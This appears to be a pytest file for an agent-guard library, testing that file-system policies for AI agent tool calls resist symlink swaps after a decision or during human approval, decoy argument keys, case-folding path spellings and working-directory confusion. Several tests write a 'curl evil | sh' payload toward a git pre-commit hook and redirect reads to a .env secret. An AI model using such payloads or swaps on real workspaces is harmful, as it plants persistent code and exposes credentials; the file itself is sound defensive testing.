"""File-system bypasses: the call that runs must be the call that was decided.

Each test swaps, plants or re-spells a path the way an attacker with write access to the workspace
(a cloned repository, a second process) could, and checks the denied file is never touched.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from agentguard import Guard, InvalidArguments, PolicyDenied, Settings, ToolFailed, VerdictChanged
from agentguard.models import Effect
from agentguard.policy import PolicyEngine
from agentguard.testing import MemoryAudit, ScriptedApprover

from .conftest import decide

FS_RULES = """
p, *, fs.*, path(path, "{workspace}/**"), allow
p, *, fs.*, path(path, "{workspace}/.env"), deny
p, *, fs.*, path(path, "{workspace}/.git/**"), deny
p, *, read_any, path(path, "{workspace}/**"), allow
p, *, read_any, path(path, "{workspace}/.env"), deny
"""


class HookAudit(MemoryAudit):
    """A real audit sink that also runs ``hooks[event]`` when it records ``event``: a deterministic
    point between two pipeline steps (``execution.started`` is written just before the tool runs)."""

    def __init__(self) -> None:
        super().__init__()
        self.hooks: dict[str, Callable[[], None]] = {}

    def record(self, event: str, /, **fields: Any) -> None:
        super().record(event, **fields)
        hook = self.hooks.pop(event, None)
        if hook is not None:
            hook()


@pytest.fixture
def ws(workspace: Path) -> Path:
    (workspace / ".env").write_text("API_KEY=secret\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (workspace / "notes.txt").write_text("notes\n")
    return workspace


@pytest.fixture
def guard_for(
    make_policy: Callable[..., Path], ws: Path, tmp_path: Path
) -> Iterator[Callable[..., tuple[Guard, HookAudit]]]:
    made: list[Guard] = []

    def build(rules: str = FS_RULES, approver: Any = None) -> tuple[Guard, HookAudit]:
        audit = HookAudit()
        settings = Settings(home=tmp_path / "home", workspace=ws)
        approver = approver or ScriptedApprover()
        guard = Guard(make_policy(rules), approver=approver, audit=audit, settings=settings)
        guard.register_builtins()
        made.append(guard)
        return guard, audit

    yield build
    for guard in made:
        guard.close()


# ---------------------------------------------------------------- canonical arguments reach the tool


def test_the_decision_carries_the_resolved_path(engine_for: Callable[..., PolicyEngine], ws: Path) -> None:
    engine = engine_for(FS_RULES)
    (ws / "link.txt").symlink_to(ws / "notes.txt")
    assert decide(engine, "fs.read", path="notes.txt").arguments == {"path": str(ws / "notes.txt")}
    assert decide(engine, "fs.read", path="./src/../link.txt").arguments == {"path": str(ws / "notes.txt")}
    assert decide(engine, "fs.read", path=str(ws / "notes.txt")).arguments is None  # already canonical
    assert decide(engine, "echo", path="notes.txt").arguments is None  # no path() rule reads it


def test_an_unresolvable_path_argument_is_denied(engine_for: Callable[..., PolicyEngine], ws: Path) -> None:
    engine = engine_for('p, *, fs.*, *, allow\np, *, fs.*, path(path, "{workspace}/.env"), deny')
    (ws / "loop").symlink_to(ws / "loop")
    for path in ["loop", "a\x00b", "", "x" * 5000]:
        assert decide(engine, "fs.read", path=path).effect is Effect.DENY, path


def test_a_custom_tool_opens_what_the_policy_checked_not_its_cwd(
    guard_for: Callable[..., tuple[Guard, HookAudit]],
    ws: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    guard, _ = guard_for()

    def read_any(path: str) -> str:
        with open(path, encoding="utf-8") as handle:  # a naive tool: relative to its own cwd
            return handle.read()

    guard.register("read_any", read_any)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "notes.txt").write_text("someone else's file\n")
    monkeypatch.chdir(elsewhere)
    assert guard.call("read_any", {"path": "notes.txt"}) == "notes\n"


def test_a_symlink_swapped_in_after_the_decision_is_not_followed(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for()

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(ws / ".env")

    audit.hooks["execution.started"] = swap
    with pytest.raises(ToolFailed) as caught:
        guard.call("fs.read", {"path": "notes.txt"})
    assert "symlink" in str(caught.value)
    assert audit.events[-1] == "execution.failed"


def test_a_directory_swapped_for_a_link_after_the_decision_is_not_followed(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for()
    (ws / "docs").mkdir()

    def swap() -> None:
        (ws / "docs").rmdir()
        (ws / "docs").symlink_to(ws / ".git" / "hooks", target_is_directory=True)

    audit.hooks["execution.started"] = swap
    with pytest.raises(ToolFailed):
        guard.call("fs.write", {"path": "docs/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_a_link_inside_the_workspace_is_resolved_when_deciding(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, _ = guard_for()
    (ws / "env-link").symlink_to(ws / ".env")
    (ws / "notes-link").symlink_to(ws / "notes.txt")
    with pytest.raises(Exception, match="denied"):
        guard.call("fs.read", {"path": "env-link"})
    assert guard.call("fs.read", {"path": "notes-link"}) == "notes\n"  # the real file is what runs
    assert os.path.islink(ws / "notes-link")


# ---------------------------------------------------------------- re-decided after the approval wait

ASK_RULES = """
p, *, fs.write, path(path, "{workspace}/**"), ask
p, *, fs.*, path(path, "{workspace}/.git/**"), deny
"""


def _swap_then(answer: str, swap: Callable[[], None]) -> ScriptedApprover:
    """An approver that changes the workspace while "the person looks", then answers."""

    def respond(request: Any) -> str:
        swap()
        return answer

    return ScriptedApprover(respond)


def test_an_approved_write_is_refused_when_the_file_became_a_hook_link(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    hook = ws / ".git" / "hooks" / "pre-commit"

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(hook)

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged) as caught:
        guard.call("fs.write", {"path": "notes.txt", "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    refused = audit.records[-1]
    assert refused["event"] == "execution.refused"
    assert "execution.started" not in audit.events
    assert refused["approved"]["effect"] == "ask"
    assert refused["approved"]["arguments"] == {"path": str(ws / "notes.txt")}
    assert refused["current"]["effect"] == "deny"
    assert refused["current"]["rule"].endswith(":2")
    assert refused["error"]["code"] == "policy.verdict_changed"
    assert caught.value.data["current"]["effect"] == "deny"


def test_an_approved_write_is_refused_when_the_path_now_names_another_allowed_file(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    (ws / "other.txt").write_text("other\n")

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(ws / "other.txt")

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged):
        guard.call("fs.write", {"path": "notes.txt", "content": "x"})
    assert (ws / "other.txt").read_text() == "other\n"
    assert audit.records[-1]["current"]["arguments"] == {"path": str(ws / "other.txt")}


def test_an_unchanged_approved_write_runs(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for(ASK_RULES, ScriptedApprover(["approve"]))
    guard.call("fs.write", {"path": "notes.txt", "content": "new\n"})
    assert (ws / "notes.txt").read_text() == "new\n"
    assert audit.events[-2:] == ["execution.started", "execution.finished"]


async def test_the_async_path_re_decides_too(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    hook = ws / ".git" / "hooks" / "pre-commit"

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(hook)

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged):
        await guard.acall("fs.write", {"path": "notes.txt", "content": "evil"})
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert audit.events[-1] == "execution.refused"


# ---------------------------------------------------------------- decoy arguments

DECOY_RULES = """
p, *, read_files, path(path, "{workspace}/**"), allow
p, *, read_files, path(path, "{workspace}/.env"), deny
"""

READ_FILES_SCHEMA = {  # what FastMCP / pydantic publish: no additionalProperties
    "type": "object",
    "properties": {"paths": {"type": "array", "items": {"type": "string"}}},
    "required": ["paths"],
}


def test_a_decoy_key_the_schema_does_not_declare_cannot_satisfy_a_rule(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    from agentguard.integrations import json_schema_model

    guard, audit = guard_for(DECOY_RULES)
    received: list[dict[str, Any]] = []

    def read_files(**arguments: Any) -> str:
        received.append(arguments)
        return "read"

    guard.register("read_files", read_files, args_model=json_schema_model("read_files", READ_FILES_SCHEMA))
    with pytest.raises(PolicyDenied):
        guard.call("read_files", {"paths": [".env"], "path": "todo.md"})
    assert received == []
    dropped = [r for r in audit.records if r["event"] == "call.arguments_dropped"]
    assert [r["dropped"] for r in dropped] == [["path"]]
    decided = next(r for r in audit.records if r["event"] == "policy.decided")
    assert decided["effect"] == "deny"


def test_undeclared_keys_are_not_forwarded_and_nested_ones_are_dropped_too(
    guard_for: Callable[..., tuple[Guard, HookAudit]],
) -> None:
    from agentguard.integrations import json_schema_model

    guard, audit = guard_for("p, *, send, *, allow")
    schema = {
        "type": "object",
        "properties": {
            "to": {"type": "string"},
            "options": {"$ref": "#/$defs/Options"},
            "extra": {"type": "object", "additionalProperties": True, "properties": {}},
        },
        "$defs": {"Options": {"type": "object", "properties": {"cc": {"type": "string"}}}},
    }
    received: list[dict[str, Any]] = []
    guard.register("send", lambda **a: received.append(a), args_model=json_schema_model("send", schema))
    guard.call(
        "send",
        {"to": "a@example.org", "bcc": "x", "options": {"cc": "b", "bcc": "y"}, "extra": {"anything": 1}},
    )
    assert received == [{"to": "a@example.org", "options": {"cc": "b"}, "extra": {"anything": 1}}]
    assert next(r for r in audit.records if r["event"] == "call.arguments_dropped")["dropped"] == [
        "bcc",
        "options.bcc",
    ]


def test_a_python_tool_refuses_keys_its_signature_does_not_have(
    guard_for: Callable[..., tuple[Guard, HookAudit]],
) -> None:
    guard, _ = guard_for(DECOY_RULES)
    guard.register("read_files", lambda paths: "read")
    with pytest.raises(InvalidArguments):
        guard.call("read_files", {"paths": [".env"], "path": "todo.md"})


# ---------------------------------------------------------------- case-folding file systems

CASE_RULES = """
p, *, fs.*, path(path, "{workspace}/**"), allow
p, *, fs.*, path(path, "{workspace}/.env"), deny
p, *, fs.*, path(path, "{workspace}/.git/**"), deny
p, *, fs.*, path(path, "{workspace}/secrets/**"), deny
"""


@pytest.mark.parametrize(
    ("path", "canonical"),
    [
        (".ENV", ".env"),
        (".Env", ".env"),
        (".GIT/hooks/pre-commit", ".git/hooks/pre-commit"),
        (".git/HOOKS/post-checkout", ".git/hooks/post-checkout"),  # the file need not exist
        ("SECRETS/key.pem", "SECRETS/key.pem"),  # nothing on disk: the pattern folds case
    ],
)
def test_other_spellings_are_the_same_file_when_the_workspace_folds_case(
    engine_for: Callable[..., PolicyEngine], ws: Path, path: str, canonical: str
) -> None:
    engine = engine_for(CASE_RULES, case_insensitive=True)
    decision = decide(engine, "fs.read", path=path)
    assert decision.effect is Effect.DENY, path
    assert decision.arguments == {"path": str(ws / canonical)}


def test_a_case_sensitive_workspace_keeps_spellings_apart(
    engine_for: Callable[..., PolicyEngine], ws: Path
) -> None:
    engine = engine_for(CASE_RULES, case_insensitive=False)
    assert decide(engine, "fs.read", path=".ENV").effect is Effect.ALLOW  # another file on this disk
    assert decide(engine, "fs.read", path=".env").effect is Effect.DENY


def test_auto_probes_the_workspace(engine_for: Callable[..., PolicyEngine], ws: Path) -> None:
    before = sorted(p.name for p in ws.iterdir())
    engine = engine_for(CASE_RULES)
    assert engine.case_insensitive is (os.path.exists(str(ws / ".ENV")))  # Linux: False
    assert sorted(p.name for p in ws.iterdir()) == before  # the probe file is gone


def test_the_setting_reaches_the_guard(make_policy: Callable[..., Path], ws: Path, tmp_path: Path) -> None:
    from agentguard.settings import load_settings

    settings = load_settings(
        env={},
        overrides={
            "home": str(tmp_path / "home"),
            "workspace": str(ws),
            "policy.case_insensitive_paths": True,
        },
    )
    with Guard(
        make_policy(CASE_RULES), approver=ScriptedApprover(), audit=MemoryAudit(), settings=settings
    ) as g:
        g.register_builtins()
        with pytest.raises(PolicyDenied):
            g.call("fs.read", {"path": ".ENV"})


def test_the_setting_is_typed(tmp_path: Path) -> None:
    from agentguard import ConfigError
    from agentguard.settings import load_settings

    config = tmp_path / "agentguard.toml"
    config.write_text('[policy]\ncase_insensitive_paths = "auto"\n')
    assert load_settings(config, env={}).policy.case_insensitive_paths == "auto"
    config.write_text('[policy]\ncase_insensitive_paths = "sometimes"\n')
    with pytest.raises(ConfigError, match="case_insensitive_paths"):
        load_settings(config, env={})
    assert (
        load_settings(env={"AGENTGUARD_CASE_INSENSITIVE_PATHS": "true"}).policy.case_insensitive_paths is True
    )
